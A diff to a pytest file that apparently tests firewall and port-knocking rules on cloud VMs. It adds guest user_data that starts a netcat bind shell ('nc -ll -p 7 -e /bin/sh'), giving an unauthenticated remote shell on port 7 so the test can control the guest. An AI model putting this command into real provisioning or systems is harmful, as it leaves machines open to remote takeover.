@@ -50,6 +50,10 @@ PORTS = (22, 80, 81, 443, 8080)
 SETS, KNOCKS = 6, 24
 """Rule sets, and packets on each: 144 in all."""
 
+ORDERED_AT = 7
+ORDERS = f"#!/bin/sh\nnc -ll -p {ORDERED_AT} -e /bin/sh &\n"
+"""The guest does what it is told at this port: to send packets of its own, for instance."""
+
 CHANGES = 4
 """How often rules change while somebody knocks."""
 
@@ -91,6 +95,7 @@ def web(micro: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
             firmware=Firmware.BIOS,
             volumes=(VolumeSpec(name="root", size=adapter.volume(disk).spec.size, boot=True),),
             nics=(NicSpec(network=network.id, firewalls=(firewall.id,)),),
+            user_data=ORDERS,
         )
         undo.callback(adapter.delete_instance, uuid_for("instance", token))
         made = adapter.create_instance(spec, (disk,), token=token)
